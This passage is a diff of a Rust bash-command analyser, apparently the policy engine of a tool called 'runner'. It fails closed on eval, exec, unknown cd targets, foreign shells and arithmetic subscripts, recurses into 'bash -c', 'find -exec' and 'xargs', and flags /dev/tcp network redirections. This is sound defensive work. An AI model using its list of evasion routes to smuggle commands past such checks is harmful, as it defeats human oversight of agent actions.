@@ -1,11 +1,15 @@
 //! Bash command analysis: parse a command with brush-parser and reduce it to the simple commands
-//! it would run and the files its redirections would write, or say why that cannot be done
-//! safely.
+//! it would run, the variables it would set, and the files its redirections would read or
+//! write, or say why that cannot be done safely.
 //!
-//! Fail closed: anything the walk does not model (functions, arithmetic commands, coprocesses,
-//! `eval`/`exec`/`source`, expansions in command position, `${...}` with side effects, nested
-//! substitutions inside `${...}`/`$((...))`) is [`Unanalysable`]. Command and process
-//! substitutions are analysed recursively: their commands are part of the result.
+//! Fail closed: anything the walk does not model is [`Unanalysable`] — functions, arithmetic
+//! commands and any arithmetic over something not proven to be a number (`$((V))`, `${A[i]}`,
+//! `${X:n}`, `$[...]`, an indirect `${!X}`: a variable can hold `a[$(cmd)]`), coprocesses,
+//! `eval`/`exec`/`source`/`hash`, expansions in command position, a `cd` whose target is not
+//! known, a `cd` inside a loop, a wrapper whose options are not understood, substitutions
+//! nested inside `${...}`. Command and process substitutions, `bash -c`/`sh -c` scripts, the
+//! command strings of `watch`/`script -c`/`su -c` and the commands `find -exec` runs are
+//! analysed recursively: their commands are part of the result.
 
 use std::path::{Path, PathBuf};
 
@@ -14,10 +18,11 @@ use brush_parser::ast::{
     IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, RedirectList, SimpleCommand,
     Word,
 };
-use brush_parser::word::{ParameterExpr, WordPiece, WordPieceWithSource};
+use brush_parser::word::{Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
 use brush_parser::{Parser, ParserOptions};
 
 use super::paths;
+use super::wrappers::{self, Layer};
 
 /// Commands longer than this are never analysed (they are denied).
 pub const MAX_COMMAND_CHARS: usize = 10_000;
@@ -31,6 +36,10 @@ const MAX_DEPTH: usize = 16;
 /// How deeply brackets may nest (counted lexically, quotes ignored) before the command is
 /// refused unparsed: the parser recurses per level and must not overflow the stack.
 const MAX_BRACKET_DEPTH: usize = 32;
+
+/// Most directories a command may possibly be in (each `cd` may fail) before the analysis
+/// gives up.
+const MAX_CWDS: usize = 8;
 
 /// Why a command cannot be analysed safely.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
@@ -52,28 +61,52 @@ pub struct ArgWord {
     /// The word's text; when `dynamic`, only the static prefix before the first expansion.
     pub text: String,
     /// Whether part of the word is only known at run time (parameter expansion, substitution,
-    /// glob, tilde, ANSI-C escapes).
+    /// glob, brace, tilde, ANSI-C escapes).
     pub dynamic: bool,
     /// The word as written in the command.
     pub raw: String,
-    /// Whether something other than a glob pattern makes it dynamic (parameter expansion,
-    /// substitution, tilde, ANSI-C escapes): its value cannot be bounded statically.
+    /// Whether something other than a glob or brace pattern makes it dynamic (parameter
+    /// expansion, substitution, tilde, ANSI-C escapes): its value cannot be bounded statically.
     pub expands: bool,
+    /// Whether an unquoted expansion in it is split into words (and globbed) at run time: it
+    /// may become several arguments.
+    pub splits: bool,
     /// For `~` or `~/rest` with nothing else dynamic: `rest` (the path relative to `$HOME`).
     pub home_rest: Option<String>,
+    /// For a word that is dynamic only through glob and brace patterns: the pattern, with its
+    /// quoted characters escaped by `\` (see [`super::globs::expand`]).
+    pub glob: Option<String>,
+}
+
+/// A word being unquoted: the word, and its glob pattern so far (`None` once something that is
+/// not a pattern is seen).
+struct Acc {
+    word: ArgWord,
+    pattern: Option<String>,
 }
 
 impl ArgWord {
-    fn literal(text: &str) -> ArgWord {
+    /// A static word.
+    pub fn literal(text: &str) -> ArgWord {
         ArgWord {
             text: text.into(),
             raw: text.into(),
             ..ArgWord::default()
         }
     }
+
+    /// A word runner cannot see (a file name `find` substitutes for `{}`).
+    fn unseen(raw: &str) -> ArgWord {
+        ArgWord {
+            raw: raw.into(),
+            dynamic: true,
+            expands: true,
+            ..ArgWord::default()
+        }
+    }
 }
 
-/// A leading `NAME=value` assignment.
+/// A variable assignment.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct EnvAssignment {
     /// Variable name.
@@ -85,28 +118,62 @@ pub struct EnvAssignment {
 /// One simple command the shell would run.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct SimpleCmd {
-    /// Leading assignments (`FOO=1 cmd`), or the whole command for `FOO=1` alone.
+    /// Environment assignments for this command: leading `FOO=1 cmd` and `env FOO=1 cmd`, or
+    /// the whole statement for `FOO=1` alone (then they set shell variables, see
+    /// [`SimpleCmd::words`]).
     pub assignments: Vec<EnvAssignment>,
+    /// Shell variables the command sets by other means (`read`, `printf -v`, `declare`,
+    /// `export`, `local`, `mapfile`, `getopts`, `unset`).
+    pub sets: Vec<EnvAssignment>,
     /// All words, wrappers included (`timeout 10 cargo test`).
     pub words: Vec<ArgWord>,
-    /// Index of the real command in `words` after stripping wrappers (`timeout`, `time`,
-    /// `nice`, `nohup`, `stdbuf`, `command`, `builtin`, bare `xargs`).
+    /// Index of the real command in `words` after the wrappers (`words.len()` when a wrapper
+    /// runs a command string, whose commands are analysed on their own).
     pub start: usize,
-    /// Whether a bare `xargs` wrapper appends arguments read from stdin.
-    pub args_from_stdin: bool,
+    /// The wrappers in front of the real command, outermost first.
+    pub layers: Vec<Layer>,
+    /// Whether the command gets arguments runner cannot see (`xargs`, `find -exec ... {}`).
+    pub unseen_args: bool,
     /// The directory the command runs in, as far as `cd` commands before it tell.
     pub cwd: PathBuf,
-    /// The starting directory, when `cd` made it differ from `cwd` (a `cd` may fail, so
-    /// relative paths are checked against both).
-    pub alt_cwd: Option<PathBuf>,
-    /// `bash -c SCRIPT` / `sh -c SCRIPT` with a static script: the script's commands are in
-    /// the analysis, so this command itself only needs to pass deny and ask rules.
+    /// Other directories it may run in (an earlier `cd` may fail): relative paths are checked
+    /// against each.
+    pub other_cwds: Vec<PathBuf>,
+    /// It runs a script whose commands are in the analysis (`bash -c SCRIPT`, `watch CMD`,
+    /// `script -c CMD`), so this command itself only needs to pass deny and ask rules and its
+    /// wrappers' own checks.
     pub shell_wrapper: bool,
+    /// The name of a shell other than bash it runs code with (`zsh -c`, `fish`): runner does
+    /// not parse its language.
+    pub foreign_shell: Option<String>,
+    /// Files its wrappers write (`flock`'s lock file, `script`'s typescript, `time -o`).
+    pub wrapper_writes: Vec<ArgWord>,
+    /// A wrapper clears or unsets environment variables (`env -i`, `env -u`): the command
+    /// does not run with the environment runner gives read-only commands.
+    pub env_cleared: bool,
 }
 
 impl SimpleCmd {
+    fn new(words: Vec<ArgWord>, cwds: &[PathBuf]) -> SimpleCmd {
+        SimpleCmd {
+            assignments: vec![],
+            sets: vec![],
+            words,
+            start: 0,
+            layers: vec![],
+            unseen_args: false,
+            cwd: cwds[0].clone(),
+            other_cwds: cwds[1..].to_vec(),
+            shell_wrapper: false,
+            foreign_shell: None,
+            wrapper_writes: vec![],
+            env_cleared: false,
+        }
+    }
+
     /// The words from `from` on, joined by spaces, for rule matching. Returns the text and
-    /// whether it stops at a dynamic word (the text is then only a static prefix).
+    /// whether it stops at a dynamic word or before arguments runner cannot see (the text is
+    /// then only a static prefix, ending in a space).
     pub fn match_text(&self, from: usize) -> (String, bool) {
         let mut out = String::new();
         for (i, w) in self.words.iter().enumerate().skip(from) {
@@ -118,12 +185,21 @@ impl SimpleCmd {
                 return (out, true);
             }
         }
+        if self.unseen_args && from < self.words.len() {
+            out.push(' ');
+            return (out, true);
+        }
         (out, false)
     }
 
     /// The real command's words (after wrappers).
     pub fn argv(&self) -> &[ArgWord] {
         self.words.get(self.start..).unwrap_or(&[])
+    }
+
+    /// Every directory the command may run in: `cwd` first.
+    pub fn cwds(&self) -> impl Iterator<Item = &Path> {
+        std::iter::once(self.cwd.as_path()).chain(self.other_cwds.iter().map(PathBuf::as_path))
     }
 
     /// The command as written (raw words), for reasons.
@@ -145,9 +221,8 @@ pub struct FileWrite {
     pub target: String,
     /// Resolved against the tracked working directory.
     pub path: PathBuf,
-    /// Resolved against the starting directory too, when `cd` made the two differ (both are
-    /// checked, since a `cd` may fail).
-    pub alt_path: Option<PathBuf>,
+    /// Resolved against the other directories the command may be in (each `cd` may fail).
+    pub other_paths: Vec<PathBuf>,
 }
 
 /// A file an input redirection (`< file`) would read.
@@ -157,8 +232,8 @@ pub struct FileRead {
     pub word: ArgWord,
     /// The directory it resolves against.
     pub cwd: PathBuf,
-    /// The starting directory too, when `cd` made the two differ.
-    pub alt_cwd: Option<PathBuf>,
+    /// The other directories the command may be in.
+    pub other_cwds: Vec<PathBuf>,
 }
 
 /// What a command would do.
@@ -170,6 +245,11 @@ pub struct Analysis {
     pub writes: Vec<FileWrite>,
     /// Every file read by an input redirection.
     pub reads: Vec<FileRead>,
+    /// Shell variables set by `for NAME in ...` loops.
+    pub loop_variables: Vec<EnvAssignment>,
+    /// Redirections to bash's network pseudo-files (`/dev/tcp/HOST/PORT`, `/dev/udp/...`), as
+    /// written.
+    pub network: Vec<String>,
 }
 
 /// Analyse `command`, run in `cwd`.
@@ -185,8 +265,13 @@ pub fn analyse(command: &str, cwd: &Path) -> Result<Analysis, Unanalysable> {
         ));
     }
     let mut w = Walker {
-        start_cwd: cwd.to_path_buf(),
-        cwd: cwd.to_path_buf(),
+        cwds: vec![cwd.to_path_buf()],
+        oldpwd: None,
+        dirstack: Vec::new(),
+        loops: 0,
+        unseen: 0,
+        stdin: Stdin::Inherited,
+        piped: false,
         out: Analysis::default(),
         opts: ParserOptions::default(),
         depth: 0,
@@ -230,18 +315,89 @@ fn bracket_depth(s: &str) -> usize {
     max
 }
 
-/// Names that run strings as code or change how later commands are looked up.
+/// Names that run strings as code, change how later commands are looked up, or evaluate
+/// arithmetic.
 const CODE_RUNNERS: &[&str] = &[
-    "eval", "exec", "source", ".", "alias", "trap", "enable", "coproc", "fc",
+    "eval", "exec", "source", ".", "alias", "trap", "enable", "coproc", "fc", "hash", "let",
+    "compgen", "complete", "bind",
 ];
 
+/// Shells whose `-c SCRIPT` is analysed as part of the command (bash's language; `sh` is
+/// POSIX sh, a subset the walk reads the same way).
+const SHELLS: &[&str] = &["bash", "sh", "rbash"];
+
+/// Shells whose language is not bash's: code given to them is not analysed.
+const FOREIGN_SHELLS: &[&str] = &[
+    "zsh",
+    "fish",
+    "ksh",
+    "ksh93",
+    "mksh",
+    "pdksh",
+    "oksh",
+    "loksh",
+    "lksh",
+    "dash",
+    "ash",
+    "posh",
+    "yash",
+    "csh",
+    "tcsh",
+    "rc",
+    "es",
+    "elvish",
+    "nu",
+    "nushell",
+    "xonsh",
+    "pwsh",
+    "powershell",
+    "osh",
+    "ysh",
+    "oil",
+    "ion",
+    "murex",
+    "hush",
+    "scsh",
+    "tclsh",
+    "wish",
+];
+
+/// Shell variables bash sets for the builtins that assign them by default; they steer nothing.
+pub const INERT_SHELL_VARIABLES: &[&str] = &["REPLY", "MAPFILE", "OPTARG", "OPTIND"];
+
 struct Walker {
-    start_cwd: PathBuf,
-    cwd: PathBuf,
+    /// The directories the shell may be in: the most likely first.
+    cwds: Vec<PathBuf>,
+    /// `$OLDPWD` as far as a `cd` in the command set it.
+    oldpwd: Option<Vec<PathBuf>>,
+    /// The `pushd` stack the command built.
+    dirstack: Vec<Vec<PathBuf>>,
+    /// How many loops the walk is inside.
+    loops: usize,
+    /// How many levels of "arguments runner cannot see" the walk is inside.
+    unseen: usize,
+    /// What the simple command being walked reads on its standard input.
+    stdin: Stdin,
+    /// Whether the command being walked is fed by a pipe.
+    piped: bool,
     out: Analysis,
     opts: ParserOptions,
     depth: usize,
 }
+
+/// A simple command's standard input, as far as its redirections tell.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Stdin {
+    /// Not redirected: a pipe when the command is fed by one, else runner's `/dev/null`.
+    Inherited,
+    /// A here-document or here-string with this static text.
+    Static(String),
+    /// A file, or text that depends on an expansion.
+    Unknown,
+}
+
+/// The directory state a subshell saves and restores.
+type DirState = (Vec<PathBuf>, Option<Vec<PathBuf>>, Vec<Vec<PathBuf>>);
 
 impl Walker {
     /// Parse and walk a piece of shell source (the command, or a substitution's body).
@@ -262,9 +418,16 @@ impl Walker {
         Ok(())
     }
 
-    /// The starting directory, when it differs from the tracked one.
-    fn alt_cwd(&self) -> Option<PathBuf> {
-        (self.cwd != self.start_cwd).then(|| self.start_cwd.clone())
+    fn dir_state(&self) -> DirState {
+        (
+            self.cwds.clone(),
+            self.oldpwd.clone(),
+            self.dirstack.clone(),
+        )
+    }
+
+    fn restore(&mut self, s: DirState) {
+        (self.cwds, self.oldpwd, self.dirstack) = s;
     }
 
     /// Walk something that runs in a subshell: `cd` inside does not leak out.
@@ -272,9 +435,20 @@ impl Walker {
     where
         F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
     {
-        let saved = self.cwd.clone();
+        let saved = self.dir_state();
         let r = f(self);
-        self.cwd = saved;
+        self.restore(saved);
+        r
+    }
+
+    /// Walk code whose commands get arguments runner cannot see.
+    fn unseen<F>(&mut self, f: F) -> Result<(), Unanalysable>
+    where
+        F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
+    {
+        self.unseen += 1;
+        let r = self.isolated(f);
+        self.unseen -= 1;
         r
     }
 
@@ -296,8 +470,11 @@ impl Walker {
     fn pipeline(&mut self, p: &Pipeline) -> Result<(), Unanalysable> {
         if p.seq.len() > 1 {
             // Every part of a multi-command pipeline runs in its own subshell.
-            for c in &p.seq {
-                self.isolated(|w| w.command(c))?;
+            for (i, c) in p.seq.iter().enumerate() {
+                let outer = std::mem::replace(&mut self.piped, i > 0);
+                let r = self.isolated(|w| w.command(c));
+                self.piped = outer;
+                r?;
             }
             Ok(())
         } else {
@@ -317,18 +494,28 @@ impl Walker {
             }
             Command::ExtendedTest(t, redirects) => {
                 self.extended_test(&t.expr)?;
-                self.out.commands.push(SimpleCmd {
-                    assignments: vec![],
-                    words: vec![ArgWord::literal("[[")],
-                    start: 0,
-                    args_from_stdin: false,
-                    cwd: self.cwd.clone(),
-                    alt_cwd: self.alt_cwd(),
-                    shell_wrapper: false,
-                });
+                let cmd = SimpleCmd::new(vec![ArgWord::literal("[[")], &self.cwds);
+                self.push(cmd);
                 self.redirect_list(redirects.as_ref())
             }
         }
+    }
+
+    fn push(&mut self, mut cmd: SimpleCmd) {
+        if self.unseen > 0 {
+            cmd.unseen_args = true;
+        }
+        self.out.commands.push(cmd);
+    }
+
+    fn in_loop<F>(&mut self, f: F) -> Result<(), Unanalysable>
+    where
+        F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
+    {
+        self.loops += 1;
+        let r = f(self);
+        self.loops -= 1;
+        r
     }
 
     fn compound(&mut self, cc: &CompoundCommand) -> Result<(), Unanalysable> {
@@ -336,10 +523,15 @@ impl Walker {
             CompoundCommand::BraceGroup(b) => self.list(&b.list),
             CompoundCommand::Subshell(s) => self.isolated(|w| w.list(&s.list)),
             CompoundCommand::ForClause(f) => {
+                let mut static_value = true;
                 for v in f.values.iter().flatten() {
-                    self.word(v)?;
+                    static_value &= !self.word(v)?.dynamic;
                 }
-                self.list(&f.body.list)
+                self.out.loop_variables.push(EnvAssignment {
+                    name: f.variable_name.clone(),
+                    static_value: static_value && f.values.is_some(),
+                });
+                self.in_loop(|w| w.list(&f.body.list))
             }
             CompoundCommand::CaseClause(c) => {
                 self.word(&c.value)?;
@@ -365,8 +557,10 @@ impl Walker {
                 Ok(())
             }
             CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
-                self.list(&w.0)?;
-                self.list(&w.1.list)
+                self.in_loop(|me| {
+                    me.list(&w.0)?;
+                    me.list(&w.1.list)
+                })
             }
             CompoundCommand::Arithmetic(_) | CompoundCommand::ArithmeticForClause(_) => {
                 unanalysable("it uses an arithmetic command `(( ... ))`")
@@ -413,13 +607,21 @@ impl Walker {
     }
 
     fn simple(&mut self, s: &SimpleCommand) -> Result<(), Unanalysable> {
+        let outer = std::mem::replace(&mut self.stdin, Stdin::Inherited);
+        let piped = std::mem::replace(&mut self.piped, false);
+        let r = self.simple_inner(s, piped);
+        self.stdin = outer;
+        self.piped = piped;
+        r
+    }
+
+    fn simple_inner(&mut self, s: &SimpleCommand, piped: bool) -> Result<(), Unanalysable> {
         let mut assignments = Vec::new();
         let mut words = Vec::new();
         for item in s.prefix.iter().flat_map(|p| p.0.iter()) {
             match item {
                 CommandPrefixOrSuffixItem::AssignmentWord(a, _) => {
-                    let (name, static_value) = self.assignment(a)?;
-                    assignments.push(EnvAssignment { name, static_value });
+                    assignments.push(self.assignment(a)?);
                 }
                 other => self.item(other, &mut words)?,
             }
@@ -434,11 +636,16 @@ impl Walker {
             // Only redirections (`> file`): the writes are already recorded.
             return Ok(());
         }
-        let (start, args_from_stdin) = strip_wrappers(&words);
-        for (i, w) in words.iter().enumerate() {
-            if i > start {
-                break;
-            }
+        let unwrapped = wrappers::unwrap(&words).map_err(|reason| Unanalysable { reason })?;
+        let start = unwrapped.start;
+        // The names of the wrappers and of the command they run.
+        let names = unwrapped
+            .layers
+            .iter()
+            .map(|l| l.at)
+            .chain((start < words.len()).then_some(start));
+        for i in names {
+            let w = &words[i];
             if w.dynamic || w.text.is_empty() {
                 return unanalysable(format!(
                     "the command name `{}` depends on an expansion",
@@ -448,47 +655,453 @@ impl Walker {
             if w.text.chars().any(char::is_whitespace) {
                 return unanalysable(format!("the command name `{}` contains whitespace", w.raw));
             }
+            if i > 0 && w.text.contains('=') {
+                return unanalysable(format!(
+                    "`{}` after a wrapper is run as a program name, not an assignment",
+                    w.raw
+                ));
+            }
             if CODE_RUNNERS.contains(&w.text.as_str()) {
                 return unanalysable(format!(
-                    "`{}` runs text as shell code or changes how commands are found",
+                    "`{}` runs text as shell code, changes how commands are found, or evaluates arithmetic",
                     w.text
                 ));
             }
         }
-        let script = shell_script(&words[start..])?;
-        let cmd = SimpleCmd {
-            assignments,
-            words,
-            start,
-            args_from_stdin,
-            cwd: self.cwd.clone(),
-            alt_cwd: self.alt_cwd(),
-            shell_wrapper: script.is_some(),
-        };
-        if let Some(script) = script {
-            self.out.commands.push(cmd);
-            return self.isolated(|w| w.source(&script));
+        let mut cmd = SimpleCmd::new(words, &self.cwds);
+        cmd.start = start;
+        cmd.layers = unwrapped.layers;
+        cmd.unseen_args = unwrapped.unseen_args;
+        cmd.wrapper_writes = unwrapped.writes;
+        cmd.env_cleared = unwrapped.env_cleared;
+        cmd.assignments = assignments;
+        cmd.assignments.extend(
+            unwrapped
+                .env
+                .into_iter()
+                .map(|(name, static_value)| EnvAssignment { name, static_value }),
+        );
+        if let Some(script) = unwrapped.script {
+            // `watch CMD`, `script -c CMD`, `su -c CMD`, `flock FILE -c CMD`: run by a shell.
+            cmd.shell_wrapper = true;
+            return self.run_script(cmd, &script.text);
         }
-        // Track `cd DIR` so later relative redirect targets resolve where the shell would.
-        if let [name, dir] = cmd.argv()
-            && name.text == "cd"
-            && !dir.dynamic
+        cmd.sets = self.builtin_sets(cmd.argv())?;
+        if has_redirect(s) {
+            cmd.sets.extend(fd_variables(&cmd.words)?);
+        }
+        if let Some(name) = cmd.argv().first()
+            && matches!(name.text.as_str(), "test" | "[")
+            && cmd.argv()[1..]
+                .iter()
+                .any(|w| w.dynamic || matches!(w.text.as_str(), "-v" | "-R"))
+            && cmd.argv()[1..]
+                .iter()
+                .any(|w| !w.dynamic && matches!(w.text.as_str(), "-v" | "-R"))
         {
-            self.cwd = paths::resolve(&self.cwd, Path::new(&dir.text));
+            // `test -v 'a[$(cmd)]'` evaluates the subscript.
+            return unanalysable(format!(
+                "`{} -v` evaluates a variable's subscript",
+                name.text
+            ));
         }
-        self.out.commands.push(cmd);
+        if let Some(name) =
+            foreign_shell(cmd.argv()).or_else(|| multicall_shell(&cmd.layers, cmd.argv()))
+        {
+            cmd.foreign_shell = Some(name);
+            self.push(cmd);
+            return Ok(());
+        }
+        let script = shell_script(cmd.argv())?;
+        if let Some(script) = script {
+            cmd.shell_wrapper = true;
+            return self.run_script(cmd, &script);
+        }
+        if let Some(name) = shell_reading_input(cmd.argv()) {
+            let stdin = std::mem::replace(&mut self.stdin, Stdin::Inherited);
+            match (stdin, piped) {
+                // Commands from a static here-document or here-string: analysed.
+                (Stdin::Static(text), _) => {
+                    cmd.shell_wrapper = true;
+                    return self.run_script(cmd, &text);
+                }
+                // `/dev/null`: nothing to run.
+                (Stdin::Inherited, false) => {}
+                // From a pipe or a file: code runner cannot see.
+                _ => {
+                    cmd.foreign_shell = Some(name);
+                    self.push(cmd);
+                    return Ok(());
+                }
+            }
+        }
+        let exec = find_exec(cmd.argv())?;
+        let parallel = parallel_script(cmd.argv())?;
+        self.change_directory(cmd.argv())?;
+        self.push(cmd);
+        for (words, in_dir) in exec {
+            self.exec_command(words, in_dir)?;
+        }
+        if let Some(script) = parallel {
+            self.unseen(|w| w.source(&script))?;
+        }
         Ok(())
     }
 
+    /// Record `cmd`, which runs `script` through a shell, and walk the script: in its own
+    /// subshell, and with arguments runner cannot see when the command gets them (`xargs sh
+    /// -c 'rm "$1"'`, `xargs -I{} sh -c 'rm {}'`: the script's words are replaced or extended
+    /// from the input).
+    fn run_script(&mut self, cmd: SimpleCmd, script: &str) -> Result<(), Unanalysable> {
+        let unseen = cmd.unseen_args || self.unseen > 0;
+        self.push(cmd);
+        if unseen {
+            self.unseen(|w| w.source(script))
+        } else {
+            self.isolated(|w| w.source(script))
+        }
+    }
+
+    /// A command `find -exec` runs (`{}` is a file name runner cannot see).
+    fn exec_command(&mut self, words: Vec<ArgWord>, in_dir: bool) -> Result<(), Unanalysable> {
+        let unwrapped = wrappers::unwrap(&words).map_err(|reason| Unanalysable { reason })?;
+        if unwrapped.script.is_some() {
+            return unanalysable("`find -exec` runs a wrapper that takes a command string");
+        }
+        for w in words.iter().take(unwrapped.start + 1) {
+            if w.dynamic || w.text.is_empty() {
+                return unanalysable(format!(
+                    "the command `find -exec` runs (`{}`) depends on an expansion",
+                    w.raw
+                ));
+            }
+            if CODE_RUNNERS.contains(&w.text.as_str()) {
+                return unanalysable(format!(
+                    "`find -exec` runs `{}`, which runs text as shell code",
+                    w.text
+                ));
+            }
+        }
+        let mut cmd = SimpleCmd::new(words, &self.cwds);
+        cmd.start = unwrapped.start;
+        cmd.layers = unwrapped.layers;
+        cmd.unseen_args = unwrapped.unseen_args || in_dir;
+        cmd.wrapper_writes = unwrapped.writes;
+        cmd.env_cleared = unwrapped.env_cleared;
+        cmd.assignments = unwrapped
+            .env
+            .into_iter()
+            .map(|(name, static_value)| EnvAssignment { name, static_value })
+            .collect();
+        if let Some(name) =
+            foreign_shell(cmd.argv()).or_else(|| multicall_shell(&cmd.layers, cmd.argv()))
+        {
+            cmd.foreign_shell = Some(name);
+            self.push(cmd);
+            return Ok(());
+        }
+        if let Some(script) = shell_script(cmd.argv())? {
+            cmd.shell_wrapper = true;
+            self.push(cmd);
+            return self.unseen(|w| w.source(&script));
+        }
+        self.push(cmd);
+        Ok(())
+    }
+
+    /// The variables a builtin sets (`read`, `printf -v`, `declare`, `export`, `local`,
+    /// `readonly`, `typeset`, `mapfile`, `readarray`, `getopts`, `unset`, `wait -p`).
+    fn builtin_sets(&self, argv: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
+        let Some(name) = argv.first() else {
+            return Ok(vec![]);
+        };
+        let args = &argv[1..];
+        let mut out = Vec::new();
+        let dynamic_name = |w: &ArgWord| {
+            unanalysable::<()>(format!(
+                "`{}` assigns a variable whose name (`{}`) is only known at run time",
+                name.text, w.raw
+            ))
+        };
+        match name.text.as_str() {
+            "read" => {
+                let mut i = 0;
+                let mut names = 0;
+                while let Some(a) = args.get(i) {
+                    i += 1;
+                    if a.dynamic {
+                        dynamic_name(a)?;
+                    }
+                    let t = a.text.as_str();
+                    if t == "--" {
+                        continue;
+                    }
+                    if let Some(opts) = t.strip_prefix('-').filter(|o| !o.is_empty()) {
+                        for (k, c) in opts.char_indices() {
+                            if "adinNptu".contains(c) {
+                                let v = if k + 1 < opts.len() {
+                                    opts[k + 1..].to_string()
+                                } else {
+                                    i += 1;
+                                    args.get(i - 1).map(|w| w.text.clone()).unwrap_or_default()
+                                };
+                                if c == 'a' {
+                                    out.push(assigned(&v, false)?);
+                                    names += 1;
+                                }
+                                break;
+                            }
+                            if !"ers".contains(c) {
+                                return unanalysable(format!("`read -{c}` is not understood"));
+                            }
+                        }
+                        continue;
+                    }
+                    out.push(assigned(t, false)?);
+                    names += 1;
+                }
+                if names == 0 {
+                    out.push(assigned("REPLY", false)?);
+                }
+            }
+            "printf" => {
+                let mut i = 0;
+                while let Some(a) = args.get(i) {
+                    if a.dynamic {
+                        if a.expands && a.text.is_empty() {
+                            return unanalysable(
+                                "`printf`'s first argument is expanded at run time and could be `-v NAME`",
+                            );
+                        }
+                        break;
+                    }
+                    match a.text.as_str() {
+                        "-v" => {
+                            let Some(v) = args.get(i + 1) else { break };
+                            if v.dynamic {
+                                dynamic_name(v)?;
+                            }
+                            out.push(assigned(&v.text, false)?);
+                            i += 2;
+                        }
+                        t if t.starts_with("-v") => {
+                            out.push(assigned(&t[2..], false)?);
+                            i += 1;
+                        }
+                        _ => break,
+                    }
+                }
+            }
+            "declare" | "typeset" | "local" | "export" | "readonly" => {
+                for a in args {
+                    if a.dynamic && (a.text.is_empty() || !a.text.contains('=')) {
+                        dynamic_name(a)?;
+                    }
+                    let t = a.text.as_str();
+                    if let Some(opts) = t.strip_prefix('-').or_else(|| t.strip_prefix('+')) {
+                        if let Some(bad) = opts.chars().find(|c| !"aAgrxltupfF-".contains(*c)) {
+                            return unanalysable(format!(
+                                "`{} -{bad}` changes how later assignments are evaluated",
+                                name.text
+                            ));
+                        }
+                        continue;
+                    }
+                    let (n, _) = t.split_once('=').unwrap_or((t, ""));
+                    let static_value = !a.dynamic;
+                    out.push(assigned(n.trim_end_matches('+'), static_value)?);
+                }
+            }
+            "mapfile" | "readarray" => {
+                let mut i = 0;
+                let mut named = false;
+                while let Some(a) = args.get(i) {
+                    i += 1;
+                    if a.dynamic {
+                        dynamic_name(a)?;
+                    }
+                    let t = a.text.as_str();
+                    if let Some(opts) = t.strip_prefix('-').filter(|o| !o.is_empty()) {
+                        for (k, c) in opts.char_indices() {
+                            match c {
+                                't' => {}
+                                'd' | 'n' | 'O' | 's' | 'u' | 'c' => {
+                                    if k + 1 == opts.len() {
+                                        i += 1;
+                                    }
+                                    break;
+                                }
+                                _ => {
+                                    return unanalysable(format!(
+                                        "`{} -{c}` is not understood (`-C` runs code)",
+                                        name.text
+                                    ));
+                                }
+                            }
+                        }
+                        continue;
+                    }
+                    out.push(assigned(t, false)?);
+                    named = true;
+                }
+                if !named {
+                    out.push(assigned("MAPFILE", false)?);
+                }
+            }
+            "getopts" => {
+                if let Some(v) = args.get(1) {
+                    if v.dynamic {
+                        dynamic_name(v)?;
+                    }
+                    out.push(assigned(&v.text, false)?);
+                }
+            }
+            "unset" => {
+                for a in args {
+                    if a.dynamic {
+                        dynamic_name(a)?;
+                    }
+                    if a.text.starts_with('-') {
+                        continue;
+                    }
+                    out.push(assigned(&a.text, true)?);
+                }
+            }
+            "wait" => {
+                for (i, a) in args.iter().enumerate() {
+                    if a.text == "-p" {
+                        let Some(v) = args.get(i + 1) else { break };
+                        if v.dynamic {
+                            dynamic_name(v)?;
+                        }
+                        out.push(assigned(&v.text, false)?);
+                    }
+                }
+            }
+            _ => {}
+        }
+        Ok(out)
+    }
+
+    /// Follow `cd`, `pushd` and `popd`: the directories later commands may run in. Any form
+    /// whose target is not known (`cd` alone, `cd ~`, `cd $X`, `cd -` with no earlier `cd`,
+    /// `pushd +1`, `popd` with no earlier `pushd`), or any inside a loop, is unanalysable.
+    fn change_directory(&mut self, argv: &[ArgWord]) -> Result<(), Unanalysable> {
+        let Some(name) = argv.first().map(|w| w.text.as_str()) else {
+            return Ok(());
+        };
+        if !matches!(name, "cd" | "pushd" | "popd" | "chdir") {
+            return Ok(());
+        }
+        if self.loops > 0 {
+            return unanalysable(format!(
+                "`{name}` inside a loop may run any number of times"
+            ));
+        }
+        let mut physical = false;
+        let mut operands = Vec::new();
+        let mut options_end = false;
+        for w in &argv[1..] {
+            if w.dynamic {
+                return unanalysable(format!(
+                    "`{name} {}` goes to a directory only known at run time",
+                    w.raw
+                ));
+            }
+            let t = w.text.as_str();
+            if !options_end && t == "--" {
+                options_end = true;
+            } else if !options_end && t.len() > 1 && t.starts_with('-') && name != "popd" {
+                if t[1..].chars().all(|c| "LPe@".contains(c)) && name != "pushd" {
+                    physical = t.contains('P') || (physical && !t.contains('L'));
+                } else {
+                    return unanalysable(format!("`{name} {t}` is not a form runner follows"));
+                }
+            } else {
+                operands.push(t);
+            }
+        }
+        let targets: Vec<PathBuf> = match (name, operands.as_slice()) {
+            ("popd", []) => match self.dirstack.pop() {
+                Some(d) => d,
+                None => return unanalysable("`popd` returns to a directory runner does not know"),
+            },
+            ("popd", _) => {
+                return unanalysable("`popd` with arguments is not a form runner follows");
+            }
+            (_, []) => {
+                return unanalysable(format!(
+                    "`{name}` without a directory goes to $HOME, which runner does not follow"
+                ));
+            }
+            (_, ["-"]) if name != "pushd" => match self.oldpwd.clone() {
+                Some(d) => d,
+                None => {
+                    return unanalysable(format!(
+                        "`{name} -` goes back to a directory runner does not know"
+                    ));
+                }
+            },
+            (_, [dir]) if !(name == "pushd" && (dir.starts_with('+') || dir.starts_with('-'))) => {
+                let mut out: Vec<PathBuf> = Vec::new();
+                for base in &self.cwds {
+                    let phys = paths::resolve(base, Path::new(dir));
+                    let logical = paths::resolve(
+                        Path::new("/"),
+                        &crate::roots::normalize_lexically(&base.join(dir)),
+                    );
+                    for t in [if physical { phys.clone() } else { logical }, phys] {
+                        if !out.contains(&t) {
+                            out.push(t);
+                        }
+                    }
+                }
+                out
+            }
+            _ => {
+                return unanalysable(format!(
